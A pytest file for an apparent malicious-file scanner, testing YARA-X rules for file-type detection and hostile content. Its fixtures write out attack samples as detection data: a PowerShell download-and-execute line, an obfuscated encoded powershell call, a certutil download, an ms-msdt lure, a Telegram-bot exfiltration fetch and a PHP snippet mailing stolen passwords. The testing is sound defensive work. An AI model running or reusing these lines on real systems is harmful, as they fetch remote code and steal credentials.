import base64
import io
import zipfile
from pathlib import Path

import pytest
import yara_x

from unhook.errors import ConfigError
from unhook.files import signatures

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PROGRAM = (
    b"MZ"
    + bytes(58)
    + b"\x80\0\0\0"
    + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!"
    + (b"This program cannot be run in DOS mode.\r\r\n$")
)


def named(data: bytes, namespace: str, rules: bytes = b"") -> set[str]:
    return {match.name for match in signatures.matches(data, rules, 5) if match.namespace == namespace}


def archive(flags: int = 0) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        made.writestr("a.txt", "words")
    data = bytearray(written.getvalue())
    data[6] |= flags
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("mz_file", PROGRAM),
        ("elf_file", b"\x7fELF\x02\x01"),
        ("macho_file", b"\xcf\xfa\xed\xfe\x07"),
        ("zip_file", archive()),
        ("encrypted_zip", archive(flags=1)),
        ("rar_file", b"Rar!\x1a\x07\x01\x00"),
        ("gzip_file", b"\x1f\x8b\x08\x00"),
        ("bzip2_file", b"BZh91AY&SY"),
        ("xz_file", b"\xfd7zXZ\x00"),
        ("zlib_file", b"\x78\x9c\x03\x00"),
        ("tar_file", bytes(257) + b"ustar\x0000"),
        ("iso_file", bytes(0x8001) + b"CD001\x01"),
        ("xar_file", b"xar!\x00\x1c"),
        ("pdf_file", b"\n%PDF-1.7"),
        ("rtf_file", rb"{\rtf1 words}"),
        ("olecf_file", OLE),
        ("encrypted_word_document", OLE + "EncryptedPackage".encode("utf-16-le")),
        ("onenote_file", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d"),
        ("lnk_file", b"\x4c\0\0\0\x01\x14\x02\0"),
        ("html_file", b"<!DOCTYPE html>\n<html>"),
        ("svg_file", b"<svg xmlns='x'>"),
        ("hta_file", b"<html><hta:application id=x>"),
        ("mhtml_file", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nContent-Location: x"),
        ("email_file", b"From: a@example.com\nSubject: x\n\n"),
        ("calendar_file", b"BEGIN:VCALENDAR\n"),
        ("batch_file", b"@echo off\nstart x"),
        ("vb_file", b"Sub Go()\n  Set x = CreateObject(\"x\")\nEnd Sub\n"),
        ("javascript_file", b"var a = 1;\nfunction go(b) { return b }"),
        ("powershell_file", b"$a = New-Object Net.WebClient\n"),
        ("base64_pe", b"payload = '" + base64.b64encode(PROGRAM) + b"'"),
    ],
)  # fmt: skip
def test_what_a_file_is(name: str, data: bytes) -> None:
    assert name in named(data, signatures.TYPES)


@pytest.mark.parametrize("data", [b"", b"Dear all, see you on Monday.", b"a,b\n1,2\n", archive()])
def test_honest_files_have_no_hostile_match(data: bytes) -> None:
    assert named(data, signatures.HOSTILE) == set()
    assert "encrypted_zip" not in named(data, signatures.TYPES)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("script_fetches_program", b"IEX (New-Object Net.WebClient).DownloadString('https://files.test/a')"),
        ("powershell_in_disguise", b"p^owershell -w hidden -enc " + b"QQBC" * 15),
        ("system_tool_fetches", b"certutil.exe -f -urlcache https://files.test/a a.exe"),
        ("diagnostic_tool_scheme", b"location.href = 'ms-msdt:/id PCWDiagnostic'"),
        ("equation_editor_object", rb"{\rtf1{\object\objemb{\*\objclass Equation.3}}}"),
        ("program_as_text", base64.b64encode(PROGRAM)),
        ("inflated_program", PROGRAM + bytes(51 * 1024 * 1024)),
        (
            "page_reports_to_chat_bot",
            b"<script>fetch('https://api.telegram.org/bot0:x/sendMessage')</script>",
        ),
        (
            "sign_in_kit",
            b"<?php $p = $_POST['password']; $i = $_SERVER['REMOTE_ADDR']; mail($to, 'x', $p . $i); ?>",
        ),
        ("autorun_file", b"[autorun]\nopen=a.exe\n"),
        (
            "shortcut_runs_shell",
            b"\x4c\0\0\0\x01\x14\x02\0" + b"C:\\Windows\\cmd.exe" + "/c start".encode("utf-16-le"),
        ),
    ],
)
def test_what_honest_files_do_not_hold(name: str, data: bytes) -> None:
    assert name in named(data, signatures.HOSTILE)


def test_an_operators_folder_is_added(tmp_path: Path) -> None:
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "ours.yara").write_text('rule ours { strings: $a = "secret word" condition: $a }')
    (tmp_path / "notes.txt").write_text("no rule")
    rules = signatures.compiled([tmp_path])
    assert named(b"a secret word", signatures.OPERATOR, rules) == {"ours"}
    assert "mz_file" in named(PROGRAM, signatures.TYPES, rules)


def test_a_rule_that_does_not_compile_is_named(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule bad { condition: nothing_known }")
    with pytest.raises(ConfigError, match=r"bad\.yar.*nothing_known"):
        signatures.compiled([tmp_path])


def test_a_folder_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such folder"):
        signatures.compiled([tmp_path / "none"])


def test_every_hostile_rule_says_what_it_means() -> None:
    rules = yara_x.compile((Path(signatures.__file__).parent / "hostile.yar").read_text())
    assert rules is not None
    source = (Path(signatures.__file__).parent / "hostile.yar").read_text()
    assert source.count("\nrule ") == source.count("meta: description = ")
